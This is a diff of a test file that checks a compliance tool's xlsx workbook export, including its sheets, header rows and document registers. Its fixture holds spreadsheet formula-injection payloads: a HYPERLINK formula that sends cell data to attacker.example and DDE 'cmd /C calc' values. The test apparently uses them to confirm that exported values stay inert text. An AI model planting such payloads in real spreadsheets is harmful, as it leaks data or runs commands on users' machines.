@@ -10,9 +10,9 @@ import { readXlsx, sheetValues, type ReadSheet } from '../support/xlsxReader.js'
 
 // Text a spreadsheet program would run as a formula if it were written as one.
 const FORMULA_TITLE = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click me")';
-const FORMULA_OWNER = '+cmd|\' /C calc\'!A0';
+const FORMULA_OWNER = "+cmd|' /C calc'!A0";
 const FORMULA_VERSION = '-2+3';
-const FORMULA_APPROVER = '@SUM(1+1)*cmd|\' /C calc\'!A0';
+const FORMULA_APPROVER = "@SUM(1+1)*cmd|' /C calc'!A0";
 
 const CATALOG = JSON.stringify({
   id: 'mini',
@@ -29,7 +29,15 @@ function workbookRepository(): GitRepository {
   return GitRepository.create({
     'clausemark.json': JSON.stringify({ catalog: './catalog.json', exclusions: [{ clause: '1.3', justification: '-not applicable to us' }] }),
     'catalog.json': CATALOG,
-    'sms/policy.md': documentText({ id: 'POL-SMS', type: 'policy', title: `'${FORMULA_TITLE.replace(/'/g, "''")}'`, owner: `"${FORMULA_OWNER.replace(/"/g, '\\"')}"`, version: `"${FORMULA_VERSION}"`, approved_by: `"${FORMULA_APPROVER}"`, clauses: '\n  - 1.1' }),
+    'sms/policy.md': documentText({
+      id: 'POL-SMS',
+      type: 'policy',
+      title: `'${FORMULA_TITLE.replace(/'/g, "''")}'`,
+      owner: `"${FORMULA_OWNER.replace(/"/g, '\\"')}"`,
+      version: `"${FORMULA_VERSION}"`,
+      approved_by: `"${FORMULA_APPROVER}"`,
+      clauses: '\n  - 1.1',
+    }),
     'sms/process.md': documentText({
       id: 'PRC-OPS',
       title: 'Operations',
@@ -71,7 +79,10 @@ describe('the workbook (clausemark export --format xlsx)', function () {
   };
 
   it('has one sheet per register, each with a frozen, filtered header row and sized columns', () => {
-    assert.deepEqual(sheets.map((candidate) => candidate.name), ['Coverage', 'Documents', 'Evidence', 'Findings']);
+    assert.deepEqual(
+      sheets.map((candidate) => candidate.name),
+      ['Coverage', 'Documents', 'Evidence', 'Findings'],
+    );
     for (const candidate of sheets) {
       assert.equal(candidate.frozenRows, 1, `${candidate.name}: the header row is frozen`);
       assert.match(candidate.autoFilter ?? '', /^A1:[A-Z]+\d+$/, `${candidate.name}: a filter over the columns`);
@@ -102,16 +113,46 @@ describe('the workbook (clausemark export --format xlsx)', function () {
     );
     const findings = sheetValues(sheet('Findings'), 5);
     assert.deepEqual(findings[0], ['Rule', 'Severity', 'File', 'Line', 'Message']);
-    assert.deepEqual(findings.slice(1), json.findings.map((finding) => [finding.ruleId, finding.severity, finding.file, finding.range?.start.line ?? null, finding.message]));
-    assert.ok(json.findings.some((finding) => finding.ruleId === 'clause.unknown'), 'the unknown clause 9.9 is among them');
+    assert.deepEqual(
+      findings.slice(1),
+      json.findings.map((finding) => [finding.ruleId, finding.severity, finding.file, finding.range?.start.line ?? null, finding.message]),
+    );
+    assert.ok(
+      json.findings.some((finding) => finding.ruleId === 'clause.unknown'),
+      'the unknown clause 9.9 is among them',
+    );
   });
 
   it('writes the document and evidence registers with dates as dates and overdue reviews marked', () => {
     const documents = sheetValues(sheet('Documents'), 11);
     assert.deepEqual(documents[0], ['Id', 'Title', 'Type', 'Owner', 'Status', 'Version', 'Approved by', 'Approved on', 'Next review', 'Overdue', 'Path']);
     assert.deepEqual(documents.slice(1), [
-      ['POL-SMS', FORMULA_TITLE, 'policy', FORMULA_OWNER, 'approved', FORMULA_VERSION, FORMULA_APPROVER, { date: '2026-03-02' }, { date: '2027-03-02' }, false, 'sms/policy.md'],
-      ['PRC-OPS', 'Operations', 'process', 'Service Desk Manager', 'approved, review overdue', '1.0', 'Head of Operations', { date: '2026-03-02' }, { date: '2026-01-31' }, true, 'sms/process.md'],
+      [
+        'POL-SMS',
+        FORMULA_TITLE,
+        'policy',
+        FORMULA_OWNER,
+        'approved',
+        FORMULA_VERSION,
+        FORMULA_APPROVER,
+        { date: '2026-03-02' },
+        { date: '2027-03-02' },
+        false,
+        'sms/policy.md',
+      ],
+      [
+        'PRC-OPS',
+        'Operations',
+        'process',
+        'Service Desk Manager',
+        'approved, review overdue',
+        '1.0',
+        'Head of Operations',
+        { date: '2026-03-02' },
+        { date: '2026-01-31' },
+        true,
+        'sms/process.md',
+      ],
     ]);
     const evidence = sheetValues(sheet('Evidence'), 5);
     assert.deepEqual(evidence.slice(1), [
